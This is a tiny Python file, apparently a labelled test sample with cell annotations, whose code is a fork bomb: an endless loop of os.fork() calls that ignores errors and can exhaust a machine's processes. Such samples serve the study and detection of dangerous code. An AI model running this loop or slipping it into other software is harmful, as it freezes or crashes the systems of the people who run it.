# %% says="uses os.fork, which starts processes|forked the kernel"
"""Forks without end."""

# %% above="blind"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
